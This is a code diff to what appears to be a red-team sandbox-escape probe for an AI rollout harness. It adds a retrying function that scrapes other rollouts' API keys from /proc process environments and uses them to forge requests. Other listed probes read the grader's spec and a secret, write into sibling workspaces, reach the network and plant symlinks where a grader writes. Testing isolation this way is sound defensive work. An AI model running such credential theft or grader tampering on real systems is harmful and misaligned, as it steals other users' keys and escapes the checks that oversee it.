@@ -77,9 +77,21 @@ def post(base_url: str, key: str, rollout_id: str = "") -> str:
         raise RuntimeError(f"HTTP {e.code}: {e.read()[:200]!r}") from e
 
 
-def steal_key(own: str, siblings: Path) -> str:
+def steal_key(own: str, siblings: Path, wait_s: float = 2.0) -> str:
     """Another rollout's key, from the environment of a harness of this run (its workspace under
-    `siblings`): other runs on the machine hold keys too, which this run's proxy rightly refuses."""
+    `siblings`): other runs on the machine hold keys too, which this run's proxy rightly refuses.
+    The siblings start beside this one: look again until `wait_s` has passed."""
+    deadline = time.monotonic() + wait_s
+    while True:
+        key = visible_key(own, siblings)
+        if key is not None:
+            return key
+        if time.monotonic() > deadline:
+            raise LookupError("no other rollout's key visible")
+        time.sleep(0.1)
+
+
+def visible_key(own: str, siblings: Path) -> str | None:
     for pid in os.listdir("/proc"):
         if not pid.isdigit():
             continue
@@ -94,7 +106,7 @@ def steal_key(own: str, siblings: Path) -> str:
         for entry in env:
             if entry.startswith(b"GYRE_API_KEY=") and entry[13:].decode() not in (own, "none"):
                 return entry[13:].decode()
-    raise LookupError("no other rollout's key visible")
+    return None
 
 
 def write_into(path: str) -> str:
@@ -136,6 +148,8 @@ def engine_direct(url: str) -> str:
 def escape(args: argparse.Namespace, targets: dict, report: dict) -> None:
     ws = Path(args.workspace)
     own_key = os.environ.get("GYRE_API_KEY", "")
+    # first, while the siblings' harnesses still run (the victim's for 5 s)
+    attempt(report, "forge_stolen_key", lambda: post(args.base_url, steal_key(own_key, ws.parent.parent)))
     attempt(report, "read_grade_spec", lambda: (ws.parent / "grade" / "spec.json").read_text())
     attempt(report, "read_env_secret", lambda: os.environ["GYRE_RED_TEAM_SECRET"])
     attempt(report, "write_sibling_workspace", lambda: wait_and_write(targets["sibling_file"]))
@@ -144,9 +158,6 @@ def escape(args: argparse.Namespace, targets: dict, report: dict) -> None:
     attempt(report, "engine_direct", lambda: engine_direct(targets["engine_url"]))
     attempt(report, "network_out", lambda: network_out(args.base_url))
     attempt(report, "forge_guessed_id", lambda: post(args.base_url, "guessed", targets["sibling_id"]))
-    attempt(
-        report, "forge_stolen_key", lambda: post(args.base_url, steal_key(own_key, ws.parent.parent))
-    )  # recorded as its owner
     attempt(report, "own_call", lambda: post(args.base_url, own_key, args.rollout_id))
 
     def plant() -> str:  # a directory where a grader once wrote its checker, a symlink where it wrote the spec
